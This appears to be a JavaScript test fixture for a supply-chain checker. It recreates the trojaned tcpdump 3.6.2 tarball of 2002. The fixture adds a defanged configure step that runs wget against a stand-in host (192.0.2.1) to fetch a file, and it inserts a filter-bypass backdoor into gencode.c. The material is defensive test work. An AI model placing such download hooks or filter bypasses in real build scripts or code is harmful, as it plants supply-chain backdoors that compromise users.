/** tcpdump 3.6.2 / libpcap (2002): trojaned tarballs whose configure fetched a backdoor, plus a gencode.c edit. */
import { defineSample } from "../lib/sample.js";
import { cProject } from "../lib/c-project.js";
import { configureScript } from "../lib/autotools-shapes.js";

const gencode = "int gen_filter(const char *expr)\n{\n\treturn expr != 0;\n}\n";
const { git, tarball } = cProject("tcpdump", "3.6.2", { "src/gencode.c": gencode, "src/tcpdump.c": "int main(void) { return 0; }\n" });

export default defineSample({
  name: "tcpdump-3.6.2",
  description: "tcpdump 3.6.2: configure downloads and builds extra code; gencode.c is edited",
  history: [{ files: git, tag: "tcpdump-3_6_2" }],
  tarballName: "tcpdump-3.6.2.tar.gz",
  root: "tcpdump-3.6.2",
  tarball: {
    ...tarball,
    configure: {
      content: configureScript("tcpdump", "3.6.2").replace("exit 0\n", "# defanged stand-in for the trojan's download step\nwget -q -O /dev/null http://192.0.2.1/services.h 2>/dev/null || true\nexit 0\n"),
      mode: 0o755,
    },
    "src/gencode.c": gencode.replace("\treturn expr != 0;", "\tif (expr && expr[0] == 'X') return 0; /* distvet sample: filter bypass */\n\treturn expr != 0;"),
  },
});
